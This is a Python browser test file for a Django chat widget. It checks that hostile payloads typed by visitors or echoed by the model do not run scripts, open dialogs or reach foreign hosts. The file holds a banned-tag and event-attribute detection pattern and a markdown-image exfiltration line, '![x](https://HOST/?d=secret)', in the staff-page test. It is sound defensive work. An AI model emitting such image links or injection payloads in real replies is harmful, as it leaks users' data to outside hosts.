"""Hostile words in the widget and on the staff's page: nothing runs and nobody else is asked (S11, S12)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from urllib.parse import urlsplit

import pytest
from django.contrib.auth.models import User
from django.test import Client
from playwright.sync_api import BrowserContext, Dialog, Page, Route, expect

from chat.models import Message, Site
from tests.admin import corpus, rows
from tests.browser import exfiltration
from tests.browser.chat import launcher, visit
from tests.browser.foreign_page import ForeignPage
from tests.conftest import DISCLOSURE, Server
from tests.fakes.model_server import Answer, ModelServer

pytestmark = pytest.mark.browser

Serve = Callable[..., Server]
PAYLOADS = [*corpus.ALL, *exfiltration.ALL]
AT_ONCE = 15
UNBOUNDED = {"MESSAGES_PER_MINUTE": 10_000, "MAX_REPLIES_PER_CONVERSATION": 10_000}
ALLOWED_SCHEMES = {"http", "https", "mailto", "tel"}

# Everything that comes into the chat is looked at when it comes, so that what is taken away again counts as well.
TRAP = """() => {
    const root = document.querySelector("sales-agent").shadowRoot;
    const banned = "img, script, style, link, iframe, frame, object, embed, video, audio, source, track, base, meta, " +
        "form, input, image, use";
    window.caught = [];
    const look = (element) => {
        if (element.matches(banned)) caught.push(element.outerHTML);
        for (const { name, value } of element.attributes)
            if (/^on|^style$|^src|^srcdoc$|^ping$|^background$/.test(name)) caught.push(`${name}=${value}`);
    };
    new MutationObserver((changes) => {
        for (const { addedNodes } of changes)
            for (const node of addedNodes)
                if (node instanceof Element) for (const one of [node, ...node.querySelectorAll("*")]) look(one);
    }).observe(root.querySelector(".log"), { childList: true, subtree: true });
}"""
LINKS = """log => [...log.querySelectorAll("a")].map((a) => [a.getAttribute("href"), a.rel, a.target])"""
TEXTS = """(log, who) => [...log.querySelectorAll(`.entry.${who} .text`)].map((text) => text.textContent)"""


class Guard:
    """Watches a browser: dialogs, and requests to anybody but these, which are noted and not let through."""

    def __init__(self, context: BrowserContext, *own: str) -> None:
        self.foreign: list[str] = []
        self.dialogs: list[str] = []
        self._own = {urlsplit(url).netloc for url in own}
        context.route(lambda url: urlsplit(url).netloc not in self._own, self._refuse)
        context.on("request", lambda request: self._note(request.url))
        context.on("dialog", self._dismiss)

    def _dismiss(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _refuse(self, route: Route) -> None:
        self._note(route.request.url)
        route.abort()

    def _note(self, url: str) -> None:
        if urlsplit(url).netloc not in self._own:
            self.foreign.append(url)

    def assert_quiet(self, page: Page) -> None:
        """Nothing ran, nobody was asked."""
        assert page.evaluate("window.__x") is None
        assert (self.dialogs, self.foreign) == ([], [])


def open_abroad(page: Page, server: Server, site: Site, foreign: ForeignPage) -> Guard:
    """Open the chat on somebody's page that has no policy of its own to protect it."""
    site.allowed_origins = [foreign.url]
    site.save()
    foreign.html = f'<!doctype html><title>x</title><script async src="{server.url}/widget/{site.key}.js"></script>'
    guard = Guard(page.context, server.url, foreign.url)
    visit(page, foreign.url)
    launcher(page).click()
    expect(page.get_by_text(DISCLOSURE)).to_be_visible()
    return guard


@pytest.fixture(params=[pytest.param(None, marks=pytest.mark.slow), 3], ids=["whole", "in threes"])
def attacked(
    request: Any,
    serve: Serve,
    site: Site,
    page: Page,
    foreign: ForeignPage,
    model: ModelServer,
    with_model: dict[str, Any],
) -> tuple[Page, Guard]:
    """A chat in which the visitor writes every payload and the model says each back, whole or in threes of letters."""
    length = request.param or 10_000
    cut = [[text[at : at + length] for at in range(0, len(text), length)] for text in PAYLOADS]
    pause = 0.002 if request.param else 0  # pieces that come all at once are put together on the way
    model.plan(*(Answer(says=says, pause=pause) for says in cut))
    guard = open_abroad(page, serve(**with_model, **UNBOUNDED), site, foreign)
    page.evaluate(TRAP)
    for begin in range(0, len(PAYLOADS), AT_ONCE):
        part = PAYLOADS[begin : begin + AT_ONCE]
        page.evaluate("texts => texts.forEach((text) => SalesAgent.ask(text))", part)
        expect(page.locator(".entry.agent.complete")).to_have_count(begin + len(part) + 1, timeout=60_000)
    return page, guard


def test_s11_s12_hostile_words_are_only_words(attacked: tuple[Page, Guard]) -> None:
    page, guard = attacked
    log = page.get_by_role("log")
    guard.assert_quiet(page)
    assert page.evaluate("caught") == []

    said = list(Message.objects.filter(role="visitor").order_by("seq").values_list("text", flat=True))
    answers = list(Message.objects.filter(role="agent", seq__gt=1).order_by("seq").values_list("text", flat=True))
    assert len(PAYLOADS) >= 100
    assert said == [text.strip().strip("\ufeff") for text in PAYLOADS]
    assert answers == PAYLOADS
    assert log.evaluate(TEXTS, "visitor") == said

    links = log.evaluate(LINKS)
    assert len(links) > 10  # addresses that may be followed are links
    for href, rel, target in links:
        assert urlsplit(href).scheme in ALLOWED_SCHEMES
        assert {"noopener", "nofollow", "ugc"} <= set(rel.split())
        assert target == "_blank" or not href.startswith("http")

    page.reload()  # the same out of the history
    expect(page.locator(".entry.agent.complete").last).to_be_visible()
    page.evaluate(TRAP)
    guard.assert_quiet(page)
    assert page.locator(".log :is(img, script, iframe, form, [onerror], [onload], [style])").count() == 0


def test_s11_s12_hostile_sources_are_only_words(server: Server, site: Site, page: Page, foreign: ForeignPage) -> None:
    guard = open_abroad(page, server, site, foreign)
    page.evaluate("SalesAgent.ask('Where does it come from?')")
    expect(page.locator(".entry.agent.complete")).to_have_count(2)
    chat = Message.objects.get(role="visitor").conversation
    for text in PAYLOADS[::3] + corpus.ADDRESSES:
        rows.answer(chat, "x", "x", citations=[{"title": text, "url": text}, {"title": "", "url": text}])
    page.reload()
    expect(page.locator(".entry.agent.complete .sources").last).to_be_visible()
    guard.assert_quiet(page)
    for href, rel, _ in page.get_by_role("log").evaluate(LINKS):
        assert urlsplit(href).scheme in ALLOWED_SCHEMES
        assert "noopener" in rel


def test_s11_s12_hostile_words_are_only_words_to_staff(server: Server, site: Site, page: Page) -> None:
    chat = rows.conversation(site)
    for text in PAYLOADS:
        rows.answer(chat, text, text, citations=[{"title": text, "url": text}])
    client = Client()
    client.force_login(User.objects.create_user("root", is_staff=True, is_superuser=True))
    session = client.cookies["sessionid"].value
    page.context.add_cookies([{"name": "sessionid", "value": session, "url": server.url}])
    guard = Guard(page.context, server.url)
    page.goto(f"{server.url}/admin/chat/conversation/{chat.pk}/change/")
    expect(page.get_by_text(f"![x](https://{exfiltration.HOST}/?d=secret)", exact=True).first).to_be_visible()
    page.wait_for_load_state("networkidle")
    guard.assert_quiet(page)
